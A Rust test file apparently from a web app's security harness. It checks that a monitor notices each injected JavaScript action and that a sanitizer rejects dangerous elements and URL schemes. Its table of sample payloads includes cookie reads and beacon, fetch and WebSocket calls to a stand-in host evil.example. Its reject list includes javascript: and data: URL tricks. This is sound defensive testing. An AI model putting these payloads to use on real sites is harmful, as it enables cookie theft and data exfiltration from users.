//! That the hostile cases can fail: everything they look for is done on purpose here, and has to be seen.

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use super::set_up;
use crate::stage::Stage;

/// What a payload that came to life would do, and how that is noted.
const DEEDS: [(&str, &str); 24] = [
    ("alert(1)", "alert"),
    ("confirm(1)", "confirm"),
    ("prompt(1)", "prompt"),
    ("print()", "print"),
    ("open('https://evil.example/')", "open"),
    ("postMessage('x', '*')", "postMessage"),
    ("fetch('https://evil.example/').catch(() => {})", "fetch"),
    ("fetch('/stolen').catch(() => {})", "fetch"),
    (
        "navigator.sendBeacon('https://evil.example/', 'x')",
        "sendBeacon",
    ),
    ("new Image().src = 'https://evil.example/a'", "new Image"),
    ("new XMLHttpRequest()", "new XMLHttpRequest"),
    (
        "try { new WebSocket('wss://evil.example/') } catch {}",
        "new WebSocket",
    ),
    (
        "try { new EventSource('https://evil.example/') } catch {}",
        "new EventSource",
    ),
    ("try { new Worker('evil.js') } catch {}", "new Worker"),
    ("window.eval('1')", "eval"),
    ("setTimeout('1')", "setTimeout"),
    ("document.write('x')", "document.write"),
    (
        "try { document.body.innerHTML = 'x' } catch {}",
        "innerHTML",
    ),
    ("document.cookie", "cookie"),
    ("document.cookie = 'a=b'", "cookie"),
    ("document.title = 'hacked'", "title"),
    ("window.hacked = 1", "global: hacked"),
    (
        "document.body.append(document.createElement('iframe'))",
        "element",
    ),
    (
        "const script = document.createElement('script'); try { script.text = 'window.hacked = 1' } catch {} document.body.append(script)",
        "",
    ),
];

/// Elements with attributes that the walk must not pass.
fn strangers() -> Vec<Value> {
    let image = |src: &str| json!(["img", { "src": src }]);
    let link = |href: &str| json!(["a", { "href": href }]);
    vec![
        json!(["script", {}]),
        json!(["style", {}]),
        json!(["iframe", {}]),
        json!(["form", {}]),
        json!(["font", {}]),
        json!(["svg:script", {}]),
        json!(["svg:a", { "href": "https://example.org/" }]),
        // No browser takes `onclick` here: Trusted Types forbid it.
        json!(["p", { "onhacked": "x" }]),
        json!(["p", { "style": "color: red" }]),
        json!(["div", { "style": "height: 1px;" }]),
        json!(["p", { "id": "search" }]),
        json!(["p", { "class": "hidden" }]),
        json!(["p", { "class": "op-card\u{a0}x" }]),
        json!(["code", { "class": "language-\"" }]),
        json!(["p", { "lang": "<b>" }]),
        json!(["p", { "href": "https://example.org/" }]),
        json!(["img", { "srcset": "a.png 1w, data:image/svg+xml,x 2w" }]),
        json!(["img", { "srcset": "javascript:x 1w" }]),
        image("javascript:x"),
        image("data:image/svg+xml,x"),
        image("data:image/png,x"),
        image("file:///x"),
        link("javascript:x"),
        link("JAVASCRIPT:x"),
        link(" javascript:x"),
        link("java\tscript:x"),
        link("vbscript:x"),
        link("data:text/html,x"),
        link("blob:x"),
        link("file:///x"),
        link("a b"),
    ]
}

/// Elements that it passes.
fn neighbours() -> Vec<Value> {
    vec![
        json!(["p", { "dir": "auto" }]),
        json!(["a", { "href": "https://example.org/", "title": "<b>" }]),
        json!(["a", { "href": "#/article/a" }]),
        json!(["a", { "href": "mailto:a@example.org" }]),
        json!(["img", { "src": "a.png", "srcset": "a,b.png 1w, https://example.org/b 2w", "alt": "\">" }]),
        json!(["img", { "src": "data:image/png;base64,AAAA" }]),
        json!(["code", { "class": "language-c++" }]),
        json!(["h3", { "id": "op-日本", "tabindex": "-1" }]),
    ]
}

/// Every deed is noted.
pub async fn the_watch_sees(stage: &Stage<'_>) -> Result<()> {
    set_up(stage)?;
    stage
        .server
        .put("payloads.json", xtask::server::Source::bytes("[]"));
    for (deed, noted) in DEEDS {
        stage.open("hostile.html").await?;
        stage.browser.wait_until("visit").await?;
        // It happens in the page's own script, as it would there.
        let script = format!(
            "const done = arguments[arguments.length - 1]; watch.compare(); {deed}; visit('none').then(done, (error) => done(String(error)));"
        );
        let answer = stage.browser.run_async(&script, Vec::new()).await;
        let answer = answer.with_context(|| format!("at {deed}"))?;
        let seen = answer["seen"].as_array().cloned().unwrap_or_default();
        let is_noted = seen
            .iter()
            .filter_map(Value::as_str)
            .any(|seen| seen.starts_with(noted));
        ensure!(is_noted, "{deed} was noted as {answer}");
    }
    Ok(())
}

/// The walk passes nothing that is not on its lists, and what is on them it passes.
pub async fn the_walk_sees(stage: &Stage<'_>) -> Result<()> {
    set_up(stage)?;
    stage.open("hostile.html").await?;
    stage.browser.wait_until("visit").await?;
    let walk = "return walked(arguments[0]);";
    for stranger in strangers() {
        let n_faults = stage.browser.run_with(walk, vec![stranger.clone()]).await?;
        ensure!(n_faults == 1, "{stranger} has {n_faults} faults");
    }
    for neighbour in neighbours() {
        let n_faults = stage
            .browser
            .run_with(walk, vec![neighbour.clone()])
            .await?;
        ensure!(n_faults == 0, "{neighbour} has {n_faults} faults");
    }
    // The policy held back the image of another host; it is on the browser's list all the same.
    stage.browser.goto("about:blank").await
}
